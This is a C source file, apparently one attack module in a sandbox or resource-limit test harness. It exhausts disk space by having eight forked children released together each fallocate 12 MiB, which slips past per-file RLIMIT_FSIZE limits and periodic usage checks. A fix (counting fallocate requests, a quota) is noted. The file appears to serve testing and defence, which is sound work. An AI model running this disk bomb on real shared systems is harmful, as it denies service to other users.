// SPDX-License-Identifier: MIT
/*
 * fallocate-at-once.c - a disk bomb that is over before anybody looks.
 *
 * Goal: more bytes on disk than the budget.
 * Means: RLIMIT_FSIZE is each file's own, so a watch has to add the files up. But fallocate(2)
 * reserves 12 MiB in a millisecond or less, writes nothing, and needs no name: the files are there
 * already, empty. Eight of them, by children that were let go at once, are full between two looks.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

enum { FILES = 8, BYTES = 12 << 20 };

/* Ends with the error, 0 for none, when the gate is opened. */
static _Noreturn void reserve(int fd, int gate)
{
	char byte;

	while (read(gate, &byte, 1) < 0)
		continue;
	_exit(fallocate(fd, 0, 0, BYTES) < 0 ? errno : 0);
}

static enum claim run(const struct brief *b)
{
	int fd[FILES], gate[2], status, refusal = 0;
	char name[16];

	if (chdir(getenv("TMPDIR") ?: "/tmp") || pipe(gate))
		return failed("pipe");
	for (int i = 0; i < FILES; i++) {
		snprintf(name, sizeof(name), "empty-%d", i);
		fd[i] = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd[i] < 0)
			return failed("open");
	}
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		pid_t child = fork();

		if (child < 0)
			return denied("fork");
		if (child > 0)
			continue;
		close(gate[1]);
		reserve(fd[i], gate[0]);
	}
	close(gate[1]);
	while (wait(&status) > 0)
		refusal = WIFEXITED(status) && WEXITSTATUS(status) ? WEXITSTATUS(status) : refusal;
	errno = refusal;
	return refusal ? denied("fallocate") : hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget, in a few milliseconds",
	.means = "fallocate(2) on eight files at once, each within RLIMIT_FSIZE",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "count what fallocate(2) asks for before it is given; a quota",
	.refs = (const char *const[]){ "fallocate(2)", "setrlimit(2): RLIMIT_FSIZE", NULL },
	.run = run,
};
